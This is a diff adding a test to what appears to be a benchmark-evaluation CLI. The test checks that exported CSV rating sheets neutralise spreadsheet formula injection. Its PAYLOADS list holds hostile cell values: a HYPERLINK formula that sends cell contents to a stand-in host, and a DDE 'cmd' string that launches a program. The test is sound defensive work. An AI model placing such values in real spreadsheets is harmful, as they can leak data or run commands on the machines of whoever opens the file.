@@ -322,3 +322,70 @@ def test_a_corrected_rating_replaces_the_old_one_only_when_asked_and_is_recorded
         scores = sorted(r.score for r in store.ratings())
         history = store.db.execute("SELECT old_value, new_value, source_file FROM human_corrections").fetchall()
     assert scores == [6.0, 6.0, 9.0] and history == [("6", "9", str(second))]
+
+
+PAYLOADS = ['=HYPERLINK("http://x/?leak="&A1,"x")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1"]
+
+
+def test_formula_like_text_is_inert_in_every_sheet_and_csv_and_still_imports(cli, tmp_path):
+    bench = tmp_path / "b.jsonl"
+    bench.write_text(
+        "\n".join(
+            json.dumps({"question_id": f"q{i}", "category": "safety", "lang": "th", "turns": [p]})
+            for i, p in enumerate(PAYLOADS)
+        ),
+        encoding="utf-8",
+    )
+    db = tmp_path / "s.db"
+    with FakeServer(
+        "openai", reply=lambda body: body["messages"][-1]["content"]
+    ) as server:  # the answer echoes the attack
+        for name in ("=cmd", "plain"):
+            assert (
+                cli(
+                    "generate",
+                    "--model",
+                    "openai:m",
+                    "--name",
+                    name,
+                    "--bench",
+                    bench,
+                    "--db",
+                    db,
+                    "--base-url",
+                    server.url,
+                    env=ENV,
+                ).exit_code
+                == 0
+            )
+    sheets = {}
+    for label, args in (("plain", ()), ("blind", ("--blind",))):
+        sheets[label] = tmp_path / f"{label}.csv"
+        assert cli("human", "export", "--model", "=cmd", "--out", sheets[label], *args, "--db", db).exit_code == 0
+    sheets["pairwise"] = tmp_path / "pairwise.csv"
+    assert (
+        cli("human", "export", "--model", "=cmd,plain", "--pairwise", "--out", sheets["pairwise"], "--db", db).exit_code
+        == 0
+    )
+    answers_csv = cli("answers", "--format", "csv", "--db", db).stdout
+    for text in [answers_csv, *(s.read_text(encoding="utf-8-sig") for s in sheets.values())]:
+        for row in csv.reader(io.StringIO(text)):
+            live = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)]
+            assert live == [], live
+    assert "'=HYPERLINK" in answers_csv  # shown as text, not dropped
+    rows = _read(sheets["plain"])  # the apostrophe does not stop the sheet coming back in
+    for row in rows:
+        row["annotator"], row["score"] = "nok", "6"
+    filled = _write(tmp_path / "filled.csv", list(rows[0]), [list(r.values()) for r in rows])
+    result = cli("human", "import", filled, "--db", db)
+    assert result.exit_code == 0, result.stderr
+    with Store(db) as store:
+        assert {r.model for r in store.ratings()} == {"=cmd"}
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
